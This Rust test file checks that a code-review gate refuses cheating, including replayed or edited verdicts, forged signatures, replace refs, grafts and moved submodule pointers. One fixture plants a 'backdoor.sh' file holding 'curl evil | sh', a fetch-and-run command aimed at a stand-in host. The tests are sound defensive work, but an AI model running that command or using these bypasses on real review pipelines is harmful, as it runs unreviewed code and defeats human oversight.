//! `verify --rev`: a good verdict and a squash merge of it pass; each way of
//! cheating is refused alone, with the rule named.

use crate::support::Lab;

/// A lab whose HEAD is a reviewed change plus its signed verdict commit.
fn approved() -> (Lab, String, String) {
    let lab = Lab::new();
    let (head, tree) = lab.change("app.py", "print('reviewed')\n");
    let v = lab.verdict(&head, &tree, |_| {});
    lab.write_signed(&v, "reviewer");
    let verdict_commit = lab.commit_verdict();
    (lab, verdict_commit, tree)
}

fn refused(lab: &Lab, rev: &str, rule: &str) -> String {
    let r = lab.verify(rev, &["--format", "json"]);
    assert_eq!(r.code, 1, "{r:?}");
    let j = r.json();
    assert_eq!(j["valid"], false);
    assert_eq!(j["refusal"]["rule"], rule, "{r:?}");
    let human = lab.verify(rev, &[]);
    assert!(human.stdout.starts_with("INVALID: "), "{human:?}");
    human.stdout
}

#[test]
fn a_signed_verdict_for_the_commits_own_content_is_valid() {
    let (lab, commit, tree) = approved();
    let r = lab.verify("HEAD", &[]);
    assert_eq!(r.code, 0, "{r:?}");
    assert!(r.stdout.starts_with("VALID: HEAD (") && r.stdout.contains("signed by reviewer@openclaw"), "{r:?}");
    let j = lab.verify(&commit, &["--format", "json"]).json();
    assert_eq!((j["valid"].clone(), j["verdict"]["tree"].clone()), (true.into(), tree.into()));
    assert_eq!(j["tool"], "openclaw-reviewgate");
}

#[test]
fn a_squash_merge_of_the_verdict_commit_still_passes() {
    let (lab, _, _) = approved();
    lab.git(&["checkout", "-q", "-b", "squashed", "HEAD~2"]);
    lab.git(&["merge", "-q", "--squash", "main"]);
    lab.git(&["commit", "-q", "-m", "squash"]);
    assert_eq!(lab.verify("squashed", &[]).code, 0);
}

#[test]
fn a_simulated_or_blocked_verdict_is_refused() {
    let lab = Lab::new();
    let (head, tree) = lab.change("app.py", "x\n");
    lab.write_signed(&lab.verdict(&head, &tree, |v| v["simulated"] = true.into()), "reviewer");
    lab.commit_verdict();
    refused(&lab, "HEAD", "simulated");
    lab.write_signed(&lab.verdict(&head, &tree, |v| v["verdict"] = "BLOCKED".into()), "reviewer");
    lab.commit_verdict();
    refused(&lab, "HEAD", "not-approved");
}

#[test]
fn an_amended_file_or_an_extra_file_in_the_verdict_commit_is_refused() {
    let (lab, _, _) = approved();
    lab.change("app.py", "print('sneaked in after review')\n");
    let msg = refused(&lab, "HEAD", "tree-mismatch");
    assert!(msg.contains("app.py"), "{msg}");
    // The verdict commit itself carrying an extra change.
    let lab = Lab::new();
    let (head, tree) = lab.change("app.py", "y\n");
    lab.write_signed(&lab.verdict(&head, &tree, |_| {}), "reviewer");
    std::fs::write(lab.repo.join("backdoor.sh"), "curl evil | sh\n").unwrap();
    lab.git(&["add", "."]);
    lab.git(&["commit", "-q", "-m", "verdict + extra"]);
    refused(&lab, "HEAD", "tree-mismatch");
}

#[test]
fn an_old_verdict_replayed_on_a_new_head_is_refused() {
    let (lab, _, _) = approved();
    let (_, _) = lab.change("app.py", "print('new code')\n");
    refused(&lab, "HEAD", "tree-mismatch");
    // A verdict naming a tree this repository does not have.
    let lab = Lab::new();
    let (head, _) = lab.change("app.py", "z\n");
    lab.write_signed(&lab.verdict(&head, &"e".repeat(40), |_| {}), "reviewer");
    lab.commit_verdict();
    refused(&lab, "HEAD", "unknown-tree");
}

#[test]
fn signatures_by_other_keys_corrupt_or_missing_are_refused() {
    let lab = Lab::new();
    let (head, tree) = lab.change("app.py", "k\n");
    let v = lab.verdict(&head, &tree, |_| {});
    lab.write_signed(&v, "intruder");
    lab.commit_verdict();
    refused(&lab, "HEAD", "bad-signature");
    // Corrupt: one byte of the armoured signature changed.
    lab.write_signed(&v, "reviewer");
    let sig = lab.repo.join("docs/LAST_APPROVED_VERDICT.json.sig");
    let text = std::fs::read_to_string(&sig).unwrap();
    let mut lines: Vec<String> = text.lines().map(str::to_owned).collect();
    let mid = lines.len() / 2;
    lines[mid] = lines[mid].chars().rev().collect();
    std::fs::write(&sig, lines.join("\n") + "\n").unwrap();
    lab.commit_verdict();
    refused(&lab, "HEAD", "bad-signature");
    // Missing.
    lab.git(&["rm", "-q", "docs/LAST_APPROVED_VERDICT.json.sig"]);
    lab.git(&["commit", "-q", "-m", "drop sig"]);
    refused(&lab, "HEAD", "no-signature");
    // A verdict edited after signing (the bytes no longer match the signature).
    let lab = Lab::new();
    let (head, tree) = lab.change("app.py", "m\n");
    lab.write_signed(&lab.verdict(&head, &tree, |v| v["verdict"] = "BLOCKED".into()), "reviewer");
    let file = lab.repo.join("docs/LAST_APPROVED_VERDICT.json");
    let edited = std::fs::read_to_string(&file).unwrap().replace("BLOCKED", "APPROVED");
    std::fs::write(&file, edited).unwrap();
    lab.commit_verdict();
    refused(&lab, "HEAD", "bad-signature");
}

#[test]
fn a_verdict_only_in_the_working_tree_counts_for_nothing() {
    let lab = Lab::new();
    let (head, tree) = lab.change("app.py", "w\n");
    lab.write_signed(&lab.verdict(&head, &tree, |_| {}), "reviewer");
    // Written and signed, never committed: HEAD carries nothing.
    refused(&lab, "HEAD", "no-verdict");
}

#[test]
fn a_verdict_older_than_the_maximum_is_refused() {
    let lab = Lab::new();
    let (head, tree) = lab.change("app.py", "o\n");
    let old = common::time_fmt::now_utc() - time::Duration::days(40);
    lab.write_signed(
        &lab.verdict(&head, &tree, |v| v["created_at"] = common::time_fmt::rfc3339(old).into()),
        "reviewer",
    );
    lab.commit_verdict();
    refused(&lab, "HEAD", "too-old");
    lab.host.write_config("[reviewgate]\nmax_age_days = 60\n");
    assert_eq!(lab.verify("HEAD", &[]).code, 0);
}

#[test]
fn allowed_signers_inside_the_repository_or_hostile_is_never_used() {
    let (lab, _, _) = approved();
    let inside = lab.repo.join("allowed_signers");
    std::fs::copy(lab.host.path("allowed_signers"), &inside).unwrap();
    let r = lab.verify("HEAD", &["--allowed-signers", &inside.to_string_lossy()]);
    assert_eq!(r.code, 2, "{r:?}");
    assert!(r.stderr.contains("inside the repository being verified"), "{r:?}");
    let outside = lab.host.path("allowed_signers");
    std::fs::set_permissions(&outside, std::os::unix::fs::PermissionsExt::from_mode(0o666)).unwrap();
    let r = lab.verify("HEAD", &[]);
    assert_eq!(r.code, 2, "{r:?}");
    assert!(r.stderr.contains("refusing allowed_signers"), "{r:?}");
    let r = lab.verify("HEAD", &["--allowed-signers", "/nonexistent/allowed_signers"]);
    assert_eq!(r.code, 2, "{r:?}");
}

#[test]
fn an_unknown_revision_cannot_be_decided_and_refusals_are_audited() {
    let (lab, _, _) = approved();
    let r = lab.verify("no-such-branch", &[]);
    assert_eq!(r.code, 2, "{r:?}");
    assert!(r.stderr.contains("is not a commit"), "{r:?}");
    lab.change("app.py", "after\n");
    refused(&lab, "HEAD", "tree-mismatch");
    let log = std::fs::read_to_string(lab.host.path("audit/audit.jsonl")).unwrap();
    assert!(log.contains("\"action\":\"review.refuse\"") && log.contains("openclaw-reviewgate"), "{log}");
}

#[test]
fn deploy_decisions_are_audit_records() {
    let lab = Lab::new();
    for (outcome, action) in
        [("complete", "deploy.complete"), ("refuse", "deploy.refuse"), ("rollback", "deploy.rollback")]
    {
        let mut cmd = lab.host.command(crate::support::GATE);
        cmd.args(["record-deploy", "--outcome", outcome, "--rev", &"a".repeat(40), "--detail", "from the test"]);
        let r = test_support::run(&mut cmd);
        assert_eq!(r.code, 0, "{r:?}");
        let log = std::fs::read_to_string(lab.host.path("audit/audit.jsonl")).unwrap();
        assert!(log.contains(&format!("\"action\":\"{action}\"")) && !log.contains("from the test"), "{log}");
    }
    // An audit log that cannot take the record: exit 2.
    std::fs::write(lab.host.path("audit/audit.jsonl"), "garbage\n").unwrap();
    let mut cmd = lab.host.command(crate::support::GATE);
    cmd.args(["record-deploy", "--outcome", "complete", "--rev", "x"]);
    assert_eq!(test_support::run(&mut cmd).code, 2);
}

#[test]
fn replace_refs_cannot_substitute_the_reviewed_content() {
    // A reviewed verdict commit V; an unreviewed commit X; `git replace X V` makes
    // plumbing that honours replace refs read V's content when asked for X.
    let (lab, verdict_commit, _) = approved();
    lab.git(&["checkout", "-q", "-b", "evil", "HEAD~2"]);
    lab.change("app.py", "print('evil')\n");
    let evil = lab.git(&["rev-parse", "HEAD"]);
    lab.git(&["replace", &evil, &verdict_commit]);
    let r = lab.verify(&evil, &[]);
    assert_eq!(r.code, 2, "a repository with replace refs must not be judged: {r:?}");
    assert!(r.stderr.contains("replace refs"), "{r:?}");
}

#[test]
fn a_submodule_pointer_moved_after_review_is_seen_whatever_gitmodules_says() {
    let lab = Lab::new();
    std::fs::write(
        lab.repo.join(".gitmodules"),
        "[submodule \"lib\"]\n\tpath = lib\n\turl = https://example.invalid/lib\n\tignore = all\n",
    )
    .unwrap();
    lab.git(&["update-index", "--add", "--cacheinfo", &format!("160000,{},lib", "1".repeat(40))]);
    lab.git(&["add", ".gitmodules"]);
    lab.git(&["commit", "-q", "-m", "add lib"]);
    let (head, tree) = (lab.git(&["rev-parse", "HEAD"]), lab.git(&["rev-parse", "HEAD^{tree}"]));
    lab.write_signed(&lab.verdict(&head, &tree, |_| {}), "reviewer");
    lab.commit_verdict();
    assert_eq!(lab.verify("HEAD", &[]).code, 0);
    lab.git(&["update-index", "--cacheinfo", &format!("160000,{},lib", "2".repeat(40))]);
    lab.git(&["commit", "-q", "-m", "bump lib (unreviewed)"]);
    let msg = refused(&lab, "HEAD", "tree-mismatch");
    assert!(msg.contains("lib"), "{msg}");
}

#[test]
fn a_grafted_history_is_not_judged() {
    let (lab, _, _) = approved();
    std::fs::write(lab.repo.join(".git/info/grafts"), "").unwrap();
    let r = lab.verify("HEAD", &[]);
    assert_eq!(r.code, 2, "{r:?}");
    assert!(r.stderr.contains("grafts"), "{r:?}");
}
